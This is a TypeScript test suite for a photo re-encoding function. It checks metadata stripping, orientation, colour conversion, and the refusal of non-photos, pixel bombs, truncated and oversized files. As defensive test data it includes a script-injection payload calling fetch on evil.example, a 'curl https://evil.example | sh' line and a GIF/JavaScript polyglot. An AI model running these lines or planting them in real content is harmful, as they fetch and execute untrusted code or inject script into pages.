import { createHash } from 'node:crypto';
import { deflateSync, crc32 } from 'node:zlib';
import fc from 'fast-check';
import sharp, { type Color, type Sharp } from 'sharp';
import { MAX_PHOTO_BYTES, PHOTO_FAULT_DETAIL, type Photo } from './photo.js';
import { reencodePhoto } from './reencode-photo.js';

const RED = { r: 220, g: 20, b: 20 };
const PAYLOAD = '<script>fetch("https://evil.example")</script>';

function plain(width: number, height: number, background: Color = RED): Sharp {
  return sharp({ create: { width, height, channels: 3, background }, limitInputPixels: false });
}

async function photoOf(bytes: Buffer): Promise<Photo> {
  const result = await reencodePhoto(bytes);
  if (!result.ok) throw new Error(result.error);
  return result.value;
}

async function faultOf(bytes: Buffer): Promise<string> {
  const result = await reencodePhoto(bytes);
  return result.ok ? 'accepted' : result.error;
}

/** The colour at one place, by fractions of the sides. */
async function colourAt(photo: Photo, x: number, y: number): Promise<readonly number[]> {
  const { data, info } = await sharp(photo.bytes).raw().toBuffer({ resolveWithObject: true });
  const column = Math.floor(x * (info.width - 1));
  const row = Math.floor(y * (info.height - 1));
  const at = (row * info.width + column) * info.channels;
  return [...data.subarray(at, at + 3)];
}

function expectColour(actual: readonly number[], expected: readonly number[]): void {
  actual.forEach((value, n) => {
    expect(Math.abs(value - (expected[n] ?? 0))).toBeLessThan(30);
  });
}

const half = { width: 20, height: 40, channels: 3, background: { r: 20, g: 20, b: 220 } } as const;

/** Red on the left, blue on the right. */
function twoHalves(): Sharp {
  return plain(40, 40).composite([{ input: { create: half }, left: 20, top: 0 }]);
}

describe('a portrait', () => {
  it('is a JPEG of ours, with its size and its digest', async () => {
    const photo = await photoOf(await plain(300, 200).png().toBuffer());
    expect(photo).toMatchObject({ contentType: 'image/jpeg', width: 300, height: 200 });
    expect(photo.sha256).toBe(createHash('sha256').update(photo.bytes).digest('hex'));
    const header = await sharp(photo.bytes).metadata();
    expect(header).toMatchObject({ format: 'jpeg', width: 300, height: 200, space: 'srgb' });
    expectColour(await colourAt(photo, 0.5, 0.5), [220, 20, 20]);
  });

  it.each([
    [2_000, 1_000, 800, 400],
    [1_000, 2_000, 400, 800],
    [801, 801, 800, 800],
    [40, 30, 40, 30],
    [1, 1, 1, 1],
    [5_000, 2, 800, 1],
  ])('of %i × %i becomes %i × %i', async (width, height, newWidth, newHeight) => {
    const photo = await photoOf(await plain(width, height).jpeg().toBuffer());
    expect([photo.width, photo.height]).toEqual([newWidth, newHeight]);
  });

  it.each(['png', 'webp', 'jpeg'] as const)('may come as %s', async (format) => {
    const photo = await photoOf(await plain(60, 40).toFormat(format).toBuffer());
    expectColour(await colourAt(photo, 0.5, 0.5), [220, 20, 20]);
  });

  it('stands upright, whichever way the camera was held', async () => {
    const turned = await photoOf(
      await twoHalves().withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    );
    expectColour(await colourAt(turned, 0.5, 0.1), [220, 20, 20]);
    expectColour(await colourAt(turned, 0.5, 0.9), [20, 20, 220]);
    expect((await sharp(turned.bytes).metadata()).orientation).toBeUndefined();
  });

  it('says nothing of place, camera, profile or comment', async () => {
    const exif = {
      IFD0: { Make: 'SecretCamera', Copyright: PAYLOAD },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' },
    };
    for (const format of ['jpeg', 'png', 'webp'] as const) {
      const sent = await plain(50, 50)
        .withExif(exif)
        .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">SecretXmp</x:xmpmeta>')
        .withIccProfile('p3', { attach: true })
        .toFormat(format)
        .toBuffer();
      expect(sent.includes('SecretCamera')).toBe(true);
      expect((await sharp(sent).metadata()).xmp?.includes('SecretXmp')).toBe(true);
      const { bytes } = await photoOf(sent);
      const header = await sharp(bytes).metadata();
      expect([header.exif, header.xmp, header.iptc, header.icc, header.comments]).toEqual(
        Array(5).fill(undefined),
      );
      for (const word of ['Secret', 'Exif', 'GPS', 'script'])
        expect(bytes.includes(word)).toBe(false);
    }
  });

  it('carries on nothing that was hidden before, in or behind the picture', async () => {
    const jpeg = await plain(50, 50).jpeg().toBuffer();
    const comment = Buffer.from(
      `\xff\xfe\0${String.fromCharCode(PAYLOAD.length + 2)}${PAYLOAD}`,
      'latin1',
    );
    const sent = Buffer.concat([
      jpeg.subarray(0, 2),
      comment,
      jpeg.subarray(2),
      Buffer.from(`PK\x03\x04${PAYLOAD}`, 'latin1'),
    ]);
    const { bytes } = await photoOf(sent);
    expect(bytes.includes('script')).toBe(false);
    expect(bytes.includes('PK\x03\x04')).toBe(false);
    expect(bytes.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
  });

  it('has white where the picture was transparent', async () => {
    const clear = { ...RED, alpha: 0 };
    for (const format of ['png', 'webp'] as const) {
      const sent = sharp({ create: { width: 30, height: 30, channels: 4, background: clear } });
      const photo = await photoOf(await sent.toFormat(format).toBuffer());
      expectColour(await colourAt(photo, 0.5, 0.5), [255, 255, 255]);
    }
  });

  it('has the colours of a screen, whatever those of the file', async () => {
    const cmyk = await plain(50, 50).toColourspace('cmyk').jpeg().toBuffer();
    expect((await sharp(cmyk).metadata()).space).toBe('cmyk');
    const deep = await plain(50, 50).toColourspace('rgb16').png().toBuffer();
    expect((await sharp(deep).metadata()).depth).toBe('ushort');
    const grey = await plain(50, 50, '#808080').toColourspace('b-w').jpeg().toBuffer();
    const photos = await Promise.all([cmyk, deep, grey].map(photoOf));
    for (const { bytes } of photos) {
      expect(await sharp(bytes).metadata()).toMatchObject({
        space: 'srgb',
        channels: 3,
        depth: 'uchar',
      });
    }
    const [fromCmyk, fromDeep, fromGrey] = await Promise.all(
      photos.map((photo) => colourAt(photo, 0.5, 0.5)),
    );
    expect((fromCmyk?.[0] ?? 0) - (fromCmyk?.[2] ?? 0)).toBeGreaterThan(100);
    expectColour(fromDeep ?? [], [220, 20, 20]);
    expectColour(fromGrey ?? [], [128, 128, 128]);
  });

  it('is the first frame of something that moves', async () => {
    const frames = await Promise.all(
      ['#ff0000', '#0000ff'].map((colour) => plain(40, 40, colour).png().toBuffer()),
    );
    const sent = await sharp(frames, { join: { animated: true } })
      .webp({ lossless: true })
      .toBuffer();
    expect((await sharp(sent).metadata()).pages).toBe(2);
    const photo = await photoOf(sent);
    expect([photo.width, photo.height]).toEqual([40, 40]);
    expectColour(await colourAt(photo, 0.5, 0.5), [255, 0, 0]);
  });
});

/** A PNG that says it has a size, and has next to nothing. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width);
  size.writeUInt32BE(height, 4);
  size.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', size),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('what is refused', () => {
  it.each([
    ['an empty file', ''],
    ['SVG', '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'],
    ['SVG behind a declaration', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['HTML', `<!doctype html>${PAYLOAD}`],
    ['a script', '#!/bin/sh\ncurl https://evil.example | sh'],
    ['GIF', 'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'],
    ['a GIF that is JavaScript as well', 'GIF89a/*\0\0*/=1;alert(1)'],
    ['PDF', '%PDF-1.7\n1 0 obj'],
    ['ZIP', 'PK\x03\x04\x14\0'],
    ['TIFF', 'II*\0\x08\0\0\0'],
    ['HEIC', '\0\0\0\x18ftypheic\0\0\0\0'],
  ])('%s is no photo', async (_, text) => {
    expect(await faultOf(Buffer.from(text, 'latin1'))).toBe('not_a_photo');
  });

  it('is what begins like a photo and is something else', async () => {
    for (const magic of [
      '\xff\xd8\xff',
      '\x89PNG\r\n\x1a\n\0\0\0\rIHDR',
      'RIFF\xff\0\0\0WEBPVP8 ',
    ]) {
      expect(await faultOf(Buffer.from(`${magic}${PAYLOAD.repeat(20)}`, 'latin1'))).toBe(
        'photo_unreadable',
      );
    }
  });

  it('is a photo behind something else', async () => {
    const jpeg = await plain(20, 20).jpeg().toBuffer();
    expect(await faultOf(Buffer.concat([Buffer.from(PAYLOAD), jpeg]))).toBe('not_a_photo');
  });

  it.each([
    [30_000, 30_000],
    [5_001, 5_000],
    [1, 25_000_001],
  ])('is a small file of %i × %i pixels, before they are unfolded', async (width, height) => {
    const bomb = pngClaiming(width, height);
    expect(bomb.length).toBeLessThan(200);
    const started = performance.now();
    expect(await faultOf(bomb)).toBe('photo_has_too_many_pixels');
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('is a real picture with too many pixels, and not one with just as many as may be', async () => {
    expect(await faultOf(await plain(5_001, 5_000).jpeg().toBuffer())).toBe(
      'photo_has_too_many_pixels',
    );
    expect(await faultOf(await plain(5_000, 5_000).jpeg().toBuffer())).toBe('accepted');
  });

  it.each(['jpeg', 'png', 'webp'] as const)('is a %s that breaks off', async (format) => {
    const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
    const whole = await sharp({
      create: { width: 200, height: 200, channels: 3, noise, background: RED },
    })
      .toFormat(format)
      .toBuffer();
    for (const share of [0.1, 0.5, 0.9, 0.99]) {
      const cut = whole.subarray(0, Math.floor(whole.length * share));
      expect(await faultOf(cut)).toBe('photo_unreadable');
    }
  });

  it('is a file larger than 5 MB, by one byte', async () => {
    const photo = await plain(20, 20).jpeg().toBuffer();
    const padded = (length: number): Buffer =>
      Buffer.concat([photo, Buffer.alloc(length - photo.length)]);
    expect(await faultOf(padded(MAX_PHOTO_BYTES + 1))).toBe('photo_too_large');
    expect(await faultOf(padded(MAX_PHOTO_BYTES))).toBe('accepted');
  });

  it('is the ninth of nine that come at once, and not the next', async () => {
    const photo = await plain(2_000, 2_000).jpeg().toBuffer();
    const outcomes = await Promise.all(Array.from({ length: 9 }, () => faultOf(photo)));
    expect(outcomes.filter((outcome) => outcome === 'photos_busy')).toHaveLength(1);
    expect(outcomes.filter((outcome) => outcome === 'accepted')).toHaveLength(8);
    expect(await faultOf(photo)).toBe('accepted');
  });

  it('is told and never thrown, whatever bytes are changed', async () => {
    const whole = await plain(32, 32)
      .withExif({ IFD0: { Make: 'x' } })
      .jpeg()
      .toBuffer();
    const changes = fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), {
      minLength: 1,
      maxLength: 5,
    });
    await fc.assert(
      fc.asyncProperty(changes, async (list) => {
        const bytes = Buffer.from(whole);
        for (const [at, value] of list) bytes[at] = value;
        const outcome = await faultOf(bytes);
        expect(['accepted', ...Object.keys(PHOTO_FAULT_DETAIL)]).toContain(outcome);
      }),
      { numRuns: 200 },
    );
  });
});
